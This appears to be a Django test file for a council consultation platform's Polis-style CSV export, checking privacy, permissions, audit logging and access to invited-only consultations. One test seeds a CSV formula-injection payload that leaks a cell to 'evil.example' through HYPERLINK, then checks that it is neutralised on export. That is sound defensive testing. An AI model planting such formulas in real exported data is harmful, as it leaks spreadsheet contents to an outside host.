"""The public export holds only what the public can see; staff get more behind a permission and
the audit log; invited-only consultations stay with their audience; texts are formula-safe and
still round-trip through our Polis import."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable

from django.test import Client
from django.urls import reverse

from changemaker.consultations import actions, adapter
from changemaker.consultations.models import Consultation, Statement
from changemaker.core.models import AuditEvent, Council, Role, User

HOST = {"HTTP_HOST": "exampleton.test"}
PHONE = "Call me on 07700 900123 about the bins"


def _unzip(body: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return {
            name: list(csv.DictReader(io.StringIO(archive.read(name).decode())))
            for name in archive.namelist()
        }


def _conversation(make_consultation: Callable[..., Consultation], **kwargs: object) -> Consultation:
    """Three seeds shown; one statement removed for a phone number after two votes on it; one
    waiting for a moderator."""
    c = make_consultation(**kwargs)
    officer = c.created_by
    assert officer is not None
    author = actions.participant_for(c, token="author")
    removed = actions.add_statement(author, PHONE)
    waiting = actions.add_statement(author, "Open the library on Sundays")
    for token in ("a", "b"):
        p = actions.participant_for(c, token=token)
        actions.cast_vote(p, c.statements.get(number=0), 1)
        actions.cast_vote(p, removed, -1)
    actions.moderate(removed, by=officer, publish=False, reason="Phone number")
    Statement.objects.filter(pk=waiting.pk).update(status=Statement.Status.PENDING)
    return c


def test_public_export_holds_published_statements_and_their_votes_only(
    make_consultation: Callable[..., Consultation], client: Client
) -> None:
    c = _conversation(make_consultation)
    for n in range(5):  # enough people for the votes to be published (7 by default)
        actions.cast_vote(
            actions.participant_for(c, token=f"more-{n}"), c.statements.get(number=1), 1
        )
    response = client.get(reverse("consultations:export", args=[c.slug]), **HOST)
    assert response.status_code == 200
    files = _unzip(response.content)
    comments, votes = files["comments.csv"], files["votes.csv"]
    assert [row["comment-body"] for row in comments] == [
        "First statement",
        "Second statement",
        "Third statement",
    ]
    assert {row["moderated"] for row in comments} == {"1"}
    assert b"07700" not in response.content and b"library" not in response.content
    shown = {row["comment-id"] for row in comments}
    assert votes and {row["comment-id"] for row in votes} <= shown
    assert len(votes) == 7  # 2 on statement 0, 5 on statement 1; none on the removed one


def test_public_export_holds_no_votes_until_enough_people_voted(
    make_consultation: Callable[..., Consultation], client: Client
) -> None:
    """With two people, their votes could be told apart: the statements only, as on the map."""
    c = _conversation(make_consultation)
    files = _unzip(client.get(reverse("consultations:export", args=[c.slug]), **HOST).content)
    assert len(files["comments.csv"]) == 3 and files["votes.csv"] == []
    officer = c.created_by
    assert officer is not None
    assert len(_unzip(adapter.export_polis(c, by=officer))["votes.csv"]) == 4  # staff: all


def test_staff_export_keeps_everything_and_is_audited(
    make_consultation: Callable[..., Consultation],
    client_as: Callable[[str | None], Client],
    make_user: Callable[..., User],
) -> None:
    c = _conversation(make_consultation)
    officer = client_as(Role.ENGAGEMENT_OFFICER)
    response = officer.get(reverse("consultations:staff-export", args=[c.slug]), **HOST)
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    comments = _unzip(response.content)["comments.csv"]
    by_text = {row["comment-body"]: row["moderated"] for row in comments}
    assert by_text[PHONE] == "-1" and by_text["Open the library on Sundays"] == "0"
    assert len(_unzip(response.content)["votes.csv"]) == 4
    event = AuditEvent.objects.get(action="consultation.exported")
    assert "07700" not in str(event.detail)
    resident = make_user(Role.RESIDENT)
    try:
        adapter.export_polis(c, by=resident)
    except actions.ConsultationError:
        pass
    else:
        raise AssertionError("a resident must not get the staff export")


def test_invited_only_consultation_is_for_its_audience(
    make_consultation: Callable[..., Consultation],
    make_user: Callable[..., User],
    council: Council,
) -> None:
    c = _conversation(make_consultation, audience=Consultation.Audience.INVITED)
    guest = make_user(Role.RESIDENT)
    actions.invite(c, [guest.email], by=c.created_by)  # type: ignore[arg-type]
    outsider = make_user(Role.RESIDENT)
    officer = make_user(Role.ENGAGEMENT_OFFICER)
    views = ["take-part", "results", "export", "add-statement"]
    anonymous = Client()
    for view in views:
        response = anonymous.get(reverse(f"consultations:{view}", args=[c.slug]), **HOST)
        assert response.status_code == 302, view
        assert response["Location"].startswith(reverse("core:sign-in")), view
    for person, expected in ((outsider, 403), (guest, 200), (officer, 200)):
        client = Client()
        client.force_login(person, backend="django.contrib.auth.backends.ModelBackend")
        for view in views:
            url = reverse(f"consultations:{view}", args=[c.slug])
            assert client.get(url, **HOST).status_code == expected, (view, person)
        listed = client.get(reverse("consultations:list"), **HOST).content.decode()
        assert (c.question in listed) == (expected == 200)
    vote = anonymous.post(
        reverse("consultations:vote", args=[c.slug]), {"statement": 0, "vote": "agree"}, **HOST
    )
    assert vote.status_code == 302 and vote["Location"].startswith(reverse("core:sign-in"))
    assert c.participants.count() == 3  # nobody joined


def test_results_never_show_a_removed_statement(
    make_consultation: Callable[..., Consultation], client: Client
) -> None:
    c = _conversation(make_consultation)
    removed = c.statements.get(text=PHONE)
    c.snapshots.create(
        votes=4,
        result={
            "groups": [
                {
                    "id": 0,
                    "size": 3,
                    "center": [1.0, 0.0],
                    "representative": [{"statement": removed.number, "agree": 0.1}],
                }
            ],
            "consensus": {"agree": [{"statement": removed.number}], "disagree": []},
            "divisive": [{"statement": removed.number}],
        },
    )
    page = client.get(reverse("consultations:results", args=[c.slug]), **HOST)
    assert page.status_code == 200
    assert "07700" not in page.content.decode()


def test_formula_texts_are_neutralised_and_round_trip(
    make_consultation: Callable[..., Consultation], council: Council
) -> None:
    texts = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+1 is two",
        "-2 degrees is cold",
        "@SUM(1,2)",
        "'=already quoted",
        "'plain quote",
        "-3",
    ]
    c = make_consultation(seeds=texts)
    body = adapter.export_polis(c)
    bodies = [row["comment-body"] for row in _unzip(body)["comments.csv"]]
    assert bodies == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "'+1+1 is two",
        "'-2 degrees is cold",
        "'@SUM(1,2)",
        "''=already quoted",
        "'plain quote",
        "-3",
    ]
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    copy = adapter.import_polis(council, files, slug="copy", question="Copy")
    assert [s.text for s in copy.statements.order_by("number")] == texts
